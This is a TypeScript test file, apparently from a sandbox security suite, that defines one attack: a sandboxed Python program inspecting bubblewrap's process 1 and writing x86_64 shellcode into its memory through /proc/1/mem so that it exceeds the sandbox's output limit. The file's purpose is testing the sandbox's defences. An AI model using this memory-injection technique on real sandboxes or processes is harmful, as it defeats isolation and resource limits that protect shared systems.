import type { Attack } from "../attack.ts";
import { programAttack } from "../program.ts";

/**
 * Process 1 of a sandbox is bubblewrap's own and runs as the program's user, which may therefore write to its memory. The program
 * is made to act as it: first with what is allowed (an output of 4096 bytes, which shows that it does act), then with what is not.
 */
export const attacks: readonly Attack[] = [
  programAttack({
    name: "taking over process 1 of the sandbox",
    limits: { wallSeconds: 2 },
    ends: ["wall-time", "done"],
    source: String.raw`
import platform, struct
limits = {line[:26].strip(): line[26:].split() for line in read("/proc/1/limits").decode().splitlines()}
for name in ["Max file size", "Max cpu time", "Max data size", "Max open files"]:
    attempt("its " + name, lambda: limits[name][1] == "unlimited")
attempt("its capabilities", lambda: "CapBnd:\t0000000000000000" not in read("/proc/1/status").decode())
attempt("its filter", lambda: "Seccomp:\t2" not in read("/proc/1/status").decode())
if platform.machine() == "x86_64" and os.readlink("/proc/1/exe").endswith("bwrap"):
    code = (b"\x48\x8d\x3d\x00\x00\x00\x00" + b"\xbe\x01\x00\x00\x00\x31\xd2\xb8\x02\x00\x00\x00\x0f\x05"  # open(output, O_WRONLY)
        + b"\x89\xc3\x89\xc7\xbe\x00\x10\x00\x00\xb8\x4d\x00\x00\x00\x0f\x05"  # ftruncate(file, 4096)
        + b"\x89\xdf\xbe\x00\x00\x00\x04\xb8\x4d\x00\x00\x00\x0f\x05"  # ftruncate(file, 64 MB)
        + b"\xb8\x22\x00\x00\x00\x0f\x05\xeb\xf7")  # pause for ever
    code = code[:3] + struct.pack("<i", len(code) - 7) + code[7:] + output.encode() + b"\0"
    at = int(read("/proc/1/syscall").split()[-1], 16)
    memory = os.open("/proc/1/mem", os.O_RDWR)
    os.pwrite(memory, code, at)
    # an orphan's end wakes it
    if os.fork() == 0:
        if os.fork() == 0: time.sleep(0.05)
        os._exit(0)
    os.wait()
    until = time.time() + 1
    while os.stat(output).st_size == 0 and time.time() < until: time.sleep(0.02)
    time.sleep(0.1)
    if os.stat(output).st_size == 0: raise RuntimeError("it did not act")
    attempt("64 MB of output", lambda: os.stat(output).st_size > 4096)
`,
    noControl: "process 1 is this machine's own",
  }),
];
